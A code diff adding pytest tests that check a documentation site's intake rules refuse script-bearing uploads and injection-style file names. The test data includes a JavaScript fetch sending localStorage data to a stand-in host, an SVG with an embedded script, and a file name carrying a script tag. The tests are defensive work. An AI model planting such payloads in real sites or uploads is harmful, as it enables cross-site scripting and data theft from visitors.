@@ -199,6 +199,30 @@ def test_a_file_above_its_limit_is_refused(project, file, limit):
     assert_refused(run_check(project), file, None, "fichier trop volumineux")
 
 
+@pytest.mark.parametrize("name, content", [
+    ("page.html", "<script src='vol.js'></script>"),
+    ("vol.js", "fetch('https://example.net/?' + localStorage.length)"),
+    ("logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
+    ("theme.css", "body { display: none }"),
+])
+def test_docs_holds_pages_and_media_never_code(project, tmp_path, name, content):
+    """An upload of the web editor, or a file of a merge request: published as is, on the site's origin."""
+    file = f"docs/{intake.MEDIA_FOLDER}/{name}"
+    (project / file).parent.mkdir(parents=True, exist_ok=True)
+    (project / file).write_text(content, encoding="utf-8")
+    assert_refused(run_check(project), file, None, "type de fichier non permis dans docs/")
+    result = build(project, tmp_path / "site")
+    assert result.returncode != 0 and not (tmp_path / "site" / intake.MEDIA_FOLDER / name).exists()
+
+
+@pytest.mark.parametrize("name", ['a"><script>alert(1)<', "page avec espaces.md", "été.md"])
+def test_a_name_in_docs_is_an_address_of_plain_characters(project, name):
+    file = f"docs/fr/{name}.md" if not name.endswith(".md") else f"docs/fr/{name}"
+    (project / file).write_text("---\ntitle: Page\ndescription: Page.\ntranslation_key: page\n---\n\n# Page\n",
+                                encoding="utf-8")
+    assert_refused(run_check(project), file, None, "nom de fichier avec des caractères non permis")
+
+
 def test_the_guides_state_the_limits_the_rules_apply():
     from conftest import ROOT
 
